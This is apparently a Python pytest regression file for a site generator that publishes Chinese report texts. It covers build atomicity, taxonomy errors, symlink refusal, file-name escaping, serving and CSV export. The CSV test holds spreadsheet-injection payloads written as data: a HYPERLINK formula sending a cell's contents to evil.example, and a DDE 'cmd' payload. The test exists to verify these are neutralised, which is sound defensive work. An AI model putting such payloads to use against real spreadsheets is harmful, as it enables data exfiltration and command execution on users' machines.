"""Issue 17, "what an outside probe broke": one regression test (or a few) per item.

Items 7 and 8 (parser) are tested with the parser. The random fault injection is in
``test_fault_injection.py``; the kills here stop a build at chosen points.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import stat
import time
import urllib.request
from dataclasses import dataclass
from pathlib import Path

import pytest

from generator.build import BuildOptions, run_build
from generator.cli import main
from generator.gather import gather
from generator.models import Problem
from generator.readers import corpus_files
from generator.site.exports import passages_csv, passages_jsonl
from generator.taxonomy.load import load_taxonomy
from tests.conftest import ROOT, make_corpus
from tests.site import buildproc as bp

FIXTURES = Path(__file__).parents[1] / "fixtures" / "taxonomy"
GOOD = "一、存在的问题\n（一）理论学习方面。一是学习不够深入。\n二、原因剖析\n思想认识不到位。\n"
DUPLICATE_ID = ("- id: political\n", "- id: theory_study\n")
# Paths are as given: corpus/… from the command line, absolute in-process.
BAD_TAXONOMY = {"duplicate id": (DUPLICATE_ID, r"(?:/.*/)?corpus/taxonomy\.yml:\d+: duplicate id "
                                 r"'theory_study' \(first defined on line \d+\)"),
                "YAML syntax": (("themes:\n", "themes:\n  - [\n"),
                                r"(?:/.*/)?corpus/taxonomy\.yml:\d+: YAML syntax")}


def _break_taxonomy(corpus: Path, old_new: tuple[str, str]) -> None:
    path = corpus / "taxonomy.yml"
    text = path.read_text(encoding="utf-8")
    assert old_new[0] in text
    path.write_text(text.replace(old_new[0], old_new[1], 1), encoding="utf-8")


def _options(root: Path, **extra: object) -> BuildOptions:
    """What ``python -m generator build`` uses when run in ``root``."""
    return BuildOptions(corpus=root / "corpus", site=root / "site", docs=root / "build" / "docs",
                        config=ROOT / "mkdocs.yml", **extra)  # type: ignore[arg-type]


# -- 1. --strict writes nothing, and says what it left ------------------------------------------


def test_strict_gate_writes_nothing_on_a_taxonomy_error(tmp_path: Path) -> None:
    root = bp.make_project(tmp_path)
    assert bp.run(root, "build").returncode == 0
    before = {name: bp.snapshot(root / name) for name in ("site", "build", "corpus")}
    _break_taxonomy(root / "corpus", ("themes: [political]", "themes: [no_such_theme]"))
    before["corpus"] = bp.snapshot(root / "corpus")
    proc = bp.run(root, "build", "--strict")
    assert proc.returncode == 1
    assert re.search(r"corpus/taxonomy\.yml:\d+: \S+: theme id 'no_such_theme' is unknown",
                     proc.stderr)
    assert "nothing was written, the previous site/ is unchanged" in proc.stderr
    assert {name: bp.snapshot(root / name) for name in before} == before
    assert bp.debris(root) == []


def test_strict_gate_without_a_previous_site_says_so(tmp_path: Path) -> None:
    root = bp.make_project(tmp_path)
    _break_taxonomy(root / "corpus", DUPLICATE_ID)
    proc = bp.run(root, "build", "--strict")
    assert proc.returncode == 1, proc.stderr
    assert "nothing was written, and there is no previous site/" in proc.stderr
    assert "unchanged" not in proc.stderr
    assert sorted(p.name for p in root.iterdir()) == ["corpus"]


# -- 2. taxonomy errors are file:line problems, never tracebacks ---------------------------------


@pytest.mark.parametrize("case", sorted(BAD_TAXONOMY))
def test_broken_taxonomy_is_reported_and_the_build_goes_on(tmp_path: Path, case: str) -> None:
    edit, expected = BAD_TAXONOMY[case]
    root = bp.make_project(tmp_path)
    _break_taxonomy(root / "corpus", edit)
    result = run_build(_options(root, search=False))  # classification on: it used to crash
    assert result.ok
    assert any(re.fullmatch(expected + ".*", str(p)) for p in result.gathered.errors)
    assert (root / "site" / "reports").is_dir()
    strict = run_build(_options(root, strict=True, search=False))
    assert strict.stopped and not strict.ok


@pytest.mark.parametrize("case", sorted(BAD_TAXONOMY))
def test_check_reports_the_root_cause_only(tmp_path: Path, case: str, capsys,  # noqa: ANN001
                                           monkeypatch) -> None:  # noqa: ANN001
    edit, expected = BAD_TAXONOMY[case]
    root = bp.make_project(tmp_path)
    _break_taxonomy(root / "corpus", edit)
    monkeypatch.chdir(root)
    assert main(["check"]) == 1
    lines = [line for line in capsys.readouterr().out.splitlines()
             if "metadata not found" not in line]  # a seed names no body: not this test's
    assert re.fullmatch(expected + ".*", lines[0]), lines
    assert not [line for line in lines if "meetings.yml" in line.split(": ")[0]], lines
    assert len(lines) <= 2, lines  # the error, and one line per theme id it left undefined


def test_one_line_per_undefined_theme_id_across_both_files() -> None:
    tax, problems = load_taxonomy(FIXTURES / "bad_taxonomy.yml", FIXTURES / "bad_meetings.yml")
    nosuch = [str(p) for p in problems if "'nosuch'" in p.message]
    assert len(nosuch) == 1 and "bad_taxonomy.yml:31: ghost: theme id 'nosuch' is unknown " \
        "(used 2 times: 1 time in bad_meetings.yml)" in nosuch[0]
    assert all("nosuch" not in a.themes for m in tax.meetings for a in m.aspects)


# -- 3. killed builds: no debris, no orphans, the lock only with its site -------------------------


@dataclass(frozen=True)
class Reference:
    """Sites and locks of complete builds: version 1, then version 2 built on version 1's."""

    site1: dict[str, str]
    lock1: str
    site2: dict[str, str]
    lock2: str


def reference_builds(root: Path) -> Reference:
    bp.make_project(root, 1)
    assert bp.run(root, "build").returncode == 0
    site1, lock1 = bp.snapshot(root / "site"), (root / "corpus" / "anchors.lock").read_text()
    bp.set_version(root, 2)
    assert bp.run(root, "build").returncode == 0
    site2, lock2 = bp.snapshot(root / "site"), (root / "corpus" / "anchors.lock").read_text()
    assert site1 != site2 and lock1 != lock2
    return Reference(site1, lock1, site2, lock2)


@pytest.fixture(scope="module")
def reference(tmp_path_factory: pytest.TempPathFactory) -> Reference:
    return reference_builds(tmp_path_factory.mktemp("reference"))


def _project_at_version_1(root: Path, ref: Reference) -> Path:
    bp.make_project(root, 1)
    assert bp.run(root, "build").returncode == 0
    assert bp.snapshot(root / "site") == ref.site1
    bp.set_version(root, 2)
    return root


KILL_POINTS = {
    "search index (workers running)": bp.kill_when("generator.search.store:write_chunks"),
    "MkDocs running": bp.KILL_DURING_MKDOCS,
    "journal written, nothing swapped": bp.kill_when("generator.publish.commit:exchange",
                                                     "kill-before"),
    "docs swapped, site not yet": bp.kill_when("generator.publish.commit:exchange"),
    "site swapped, lock not yet": bp.kill_when("generator.publish.commit:exchange", call=2),
}


@pytest.mark.parametrize("point", list(KILL_POINTS))
def test_killed_build_leaves_a_whole_site_and_the_next_build_cleans_up(
        tmp_path: Path, reference: Reference, point: str) -> None:
    root = _project_at_version_1(tmp_path, reference)
    tag = bp.new_tag()
    proc = bp.run(root, "build", patch=KILL_POINTS[point], tag=tag)
    assert proc.returncode == -signal.SIGKILL, proc.stderr[-2000:]
    assert bp.strays(tag) == []
    site = bp.snapshot(root / "site")
    assert site in (reference.site1, reference.site2)
    lock = (root / "corpus" / "anchors.lock").read_text()
    if site == reference.site1:
        assert lock == reference.lock1  # the lock is never ahead of its site
    assert bp.debris(root, wait=0) != [] or lock == reference.lock2
    assert bp.run(root, "build").returncode == 0
    assert bp.debris(root) == []
    assert bp.snapshot(root / "site") == reference.site2
    assert (root / "corpus" / "anchors.lock").read_text() == reference.lock2


def test_recovery_completes_a_commit_cut_between_two_renames(tmp_path: Path,
                                                               monkeypatch) -> None:  # noqa: ANN001
    """Without ``renameat2`` the swap is two renames; a kill between them leaves no site/."""
    from generator.publish import commit as commit_module
    from generator.publish.commit import Move, commit, recover

    site, new, home = tmp_path / "site", tmp_path / "staging" / "site", tmp_path / "staging"
    lock, new_lock = tmp_path / "anchors.lock", home / "anchors.lock"
    for folder, text in ((site, "old"), (new, "new")):
        folder.mkdir(parents=True)
        (folder / "index.html").write_text(text)
    lock.write_text("old lock")
    new_lock.write_text("new lock")

    def die_halfway(staged: Path, target: Path) -> None:
        target.rename(staged.with_name(staged.name + ".old"))
        raise SystemExit("killed")  # the process dies here: nothing after runs

    monkeypatch.setattr(commit_module, "exchange", die_halfway)
    with pytest.raises(SystemExit):
        commit([Move(new, site)], Move(new_lock, lock), home)
    assert not site.exists()
    monkeypatch.undo()
    recover(home)
    assert (site / "index.html").read_text() == "new" and lock.read_text() == "new lock"


def test_recovery_keeps_a_lock_changed_after_the_kill(tmp_path: Path) -> None:
    from generator.publish import commit as commit_module

    site, new, home = tmp_path / "site", tmp_path / "staging" / "site", tmp_path / "staging"
    lock, new_lock = tmp_path / "anchors.lock", home / "anchors.lock"
    for folder in (site, new):
        folder.mkdir(parents=True)
    lock.write_text("old lock")
    new_lock.write_text("new lock")
    journal = {"folders": [[str(new), str(site), commit_module._ino(new),
                            commit_module._ino(site)]],
               "lock": [str(new_lock), str(lock), commit_module._sig(lock)]}
    (home / commit_module.JOURNAL).write_text(json.dumps(journal))
    time.sleep(0.01)
    lock.write_text("edited by hand after the kill")
    commit_module.recover(home)
    assert lock.read_text() == "edited by hand after the kill"


def test_a_journal_that_cannot_be_followed_does_not_stop_later_builds(tmp_path: Path) -> None:
    from generator.publish import commit as commit_module

    (tmp_path / commit_module.JOURNAL).write_text('{"folders": [["/no/such", "/gone/site", 1, 2]]}')
    commit_module.recover(tmp_path)  # logs a warning, raises nothing
    (tmp_path / commit_module.JOURNAL).write_text('{"folders": 3}')
    commit_module.recover(tmp_path)


# -- 4, 5. editor temp files, symbolic links ------------------------------------------------------


def test_editor_and_office_temp_files_are_skipped(tmp_path: Path) -> None:
    corpus = make_corpus(tmp_path / "corpus", {
        "report.docx": b"", "~$report.docx": b"\x00owner file", ".~lock.report.docx#": "x",
        "report.txt~": GOOD, ".#report.txt": GOOD, ".report.txt.swp": b"\x00",
        "report.txt.swp": b"\x00", "upload.tmp": b"\x00", "SAVE.TMP": b"\x00", "good.txt": GOOD})
    files, notes = corpus_files(corpus)
    assert [p.name for p in files] == ["good.txt", "report.docx"]
    assert notes == []


def test_symlink_leaving_the_corpus_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "elsewhere" / "creds.env"
    secret.parent.mkdir()
    secret.write_text("一、存在的问题\nPASSWORD=hunter2\n", encoding="utf-8")
    corpus = make_corpus(tmp_path / "corpus", {"good.txt": GOOD})
    (corpus / "notes.txt").symlink_to(secret)
    (corpus / "more").symlink_to(secret.parent, target_is_directory=True)
    result = gather(corpus)
    assert [r.slug for r in result.reports] == ["good"]
    messages = sorted(str(p) for p in result.errors)
    assert len(messages) == 2, messages
    assert messages[0].startswith("corpus/more: symbolic link to a folder outside the corpus")
    assert messages[1].startswith("corpus/notes.txt: symbolic link to a file outside the corpus")


def test_symlinked_sidecar_leaving_the_corpus_is_refused(tmp_path: Path) -> None:
    meta = tmp_path / "meta.yml"
    meta.write_text("title: 别处的标题\n", encoding="utf-8")
    corpus = make_corpus(tmp_path / "corpus", {"good.txt": GOOD})
    (corpus / "good.yml").symlink_to(meta)
    [problem] = gather(corpus).errors
    assert str(problem).startswith("corpus/good.yml: symbolic link to a file outside")


def test_symlink_inside_the_corpus_is_one_report(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    (corpus / "sub").mkdir(parents=True)
    (corpus / "good.txt").write_text(GOOD, encoding="utf-8")
    (corpus / "sub" / "other.txt").write_text(GOOD + "另一份。\n", encoding="utf-8")
    (corpus / "alias.txt").symlink_to("good.txt")
    (corpus / "mirror").symlink_to("sub", target_is_directory=True)
    files, notes = corpus_files(corpus)
    assert [p.relative_to(corpus).as_posix() for p in files] == ["good.txt", "sub/other.txt"]
    assert notes == []


# -- 6. an empty report is named --------------------------------------------------------------------


def test_title_only_report_is_a_warning(tmp_path: Path) -> None:
    title = "中共某某县委常委班子2024年度民主生活会对照检查材料"
    corpus = make_corpus(tmp_path / "corpus", {"only-title.txt": title + "\n", "good.txt": GOOD})
    result = gather(corpus)
    [warning] = [p for p in result.problems if p.severity == "warning"
                 and "metadata not found" not in p.message]
    assert str(warning).startswith("corpus/only-title.txt: no sections and no passages found, "
                                   f"only the title ({title})")
    assert not result.errors


# -- 9. a control character in a file name cannot split the message line --------------------------


def test_control_characters_in_names_are_escaped(tmp_path: Path) -> None:
    corpus = make_corpus(tmp_path / "corpus", {"bad\nname.txt": "", "tab\there.txt": "",
                                               "rtl\u202etxt.exe.txt": "", "good.txt": GOOD})
    lines = sorted(str(p) for p in gather(corpus).problems if "metadata not found" not in p.message)
    assert lines == ['"corpus/bad\\nname.txt": file is empty; remove it or add the report\'s text',
                     '"corpus/rtl\\u202etxt.exe.txt": file is empty; remove it or add the '
                     "report's text",
                     '"corpus/tab\\there.txt": file is empty; remove it or add the report\'s text']
    assert str(Problem('corpus/a"\\\n.txt', 3, "x")) == '"corpus/a\\"\\\\\\n.txt":3: x'
    assert str(Problem("corpus/plain name.txt", 3, "x")) == "corpus/plain name.txt:3: x"


# -- 10. serve: restarts at once, skips a busy port, survives a broken taxonomy -----------------


def test_serve_restarts_on_its_port_and_skips_a_busy_one(tmp_path: Path) -> None:
    root = tmp_path
    make_corpus(root / "corpus", {"good.txt": GOOD})
    for name in ("taxonomy.yml", "meetings.yml"):
        (root / "corpus" / name).write_bytes((ROOT / "corpus" / name).read_bytes())
    _break_taxonomy(root / "corpus", DUPLICATE_ID)
    port = bp.free_port()
    first, lines = bp.start_serve(root, port)
    try:
        assert lines[-1].endswith(f":{port}/ (Ctrl-C to stop)"), lines
        assert any(re.match(r"corpus/taxonomy\.yml:\d+: duplicate id", ln) for ln in lines)
        for _ in range(3):  # the server closes first (HTTP/1.0): TIME_WAIT on its port
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/") as page:
                assert page.status == 200 and page.read()
                time.sleep(0.2)
    finally:
        out = bp.stop_serve(first)
    assert first.returncode == 0 and "Traceback" not in out, out
    second, lines = bp.start_serve(root, port)
    try:
        assert lines[-1].endswith(f":{port}/ (Ctrl-C to stop)"), lines
        third, lines = bp.start_serve(root, port)
        try:
            assert f"port {port} is busy; serving on port {port + 1} instead" in lines, lines
            assert lines[-1].endswith(f":{port + 1}/ (Ctrl-C to stop)"), lines
        finally:
            bp.stop_serve(third)
    finally:
        bp.stop_serve(second)


# -- 11. the site is readable by a web server running as another user --------------------------


@pytest.mark.parametrize(("umask", "folder", "file"), [(0o022, 0o755, 0o644),
                                                       (0o027, 0o750, 0o640)])
def test_site_and_docs_modes_follow_the_umask(tmp_path: Path, umask: int, folder: int,
                                              file: int) -> None:
    corpus = make_corpus(tmp_path / "corpus", {"good.txt": GOOD})
    old = os.umask(umask)
    try:
        assert run_build(_options(tmp_path, classify=False)).ok
    finally:
        os.umask(old)
    for top in (tmp_path / "site", tmp_path / "build" / "docs"):
        modes = {stat.S_IMODE(p.stat().st_mode) for p in [top, *top.rglob("*")] if p.is_dir()}
        assert modes == {folder}, top
        modes = {stat.S_IMODE(p.stat().st_mode) for p in top.rglob("*") if p.is_file()}
        assert modes == {file}, top
    assert stat.S_IMODE((corpus / "anchors.lock").stat().st_mode) == file


# -- 12. Ctrl-C; two sites from one checkout ---------------------------------------------------------


@pytest.mark.parametrize("where", ["generator.gather:gather",
                                   "generator.search.store:write_chunks"])
def test_ctrl_c_prints_one_line_and_exits_130(tmp_path: Path, where: str) -> None:
    root = bp.make_project(tmp_path)
    tag = bp.new_tag()
    proc = bp.run(root, "build", patch=bp.kill_when(where, "int"), tag=tag)
    assert proc.returncode == 130, proc.stderr[-3000:]
    assert proc.stderr.strip().splitlines() == [
        "interrupted; no site was written (there is no previous site/)"]
    assert bp.strays(tag) == [] and bp.debris(root) == []
    assert not (root / "site").exists()


def test_two_sites_from_one_checkout_keep_their_own_docs(tmp_path: Path, monkeypatch) -> None:  # noqa: ANN001
    for name, slug in (("a", "alpha"), ("b", "beta")):
        make_corpus(tmp_path / f"corpus-{name}", {f"{slug}.txt": GOOD})
    monkeypatch.chdir(tmp_path)
    config = ["--config", str(ROOT / "mkdocs.yml")]
    for name in ("a", "b"):
        assert main(["build", "--corpus", f"corpus-{name}", "--site", f"site-{name}",
                     *config]) == 0
    docs = sorted(p for p in (tmp_path / "build").iterdir() if p.name.startswith("docs"))
    assert [p.name.split("-")[:2] for p in docs] == [["docs", "site"], ["docs", "site"]]
    reports = [sorted(q.name for q in (p / "reports").iterdir()) for p in docs]
    assert sorted(reports) == [["alpha.md"], ["beta.md"]]
    assert (tmp_path / "site-a" / "reports" / "alpha").is_dir()
    assert (tmp_path / "site-b" / "reports" / "beta").is_dir()


# -- 13. passages.csv cannot carry formulas --------------------------------------------------------


def test_csv_cells_cannot_start_formulas() -> None:
    texts = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "@cmd|' /C calc'!A0",
             "+1+1", "-2+3", "\tindent", "\rcarriage", "（一）正常的段落。", "一是 = 不是公式"]
    records = [{"id": f"r#p-{i}", "report": "r", "url": "/reports/r/", "kind": "para",
                "role": "problems", "path": "1", "section": None, "heading": None,
                "lead": text, "text": text, "themes": [], "problem_types": []}
               for i, text in enumerate(texts)]
    rows = list(csv.DictReader(io.StringIO(passages_csv(records).lstrip("\ufeff"))))
    assert [row["text"] for row in rows] == ["'" + t for t in texts[:6]] + texts[6:]
    assert [row["lead"] for row in rows] == [row["text"] for row in rows]
    exact = [json.loads(line)["text"] for line in passages_jsonl(records).splitlines()]
    assert exact == texts
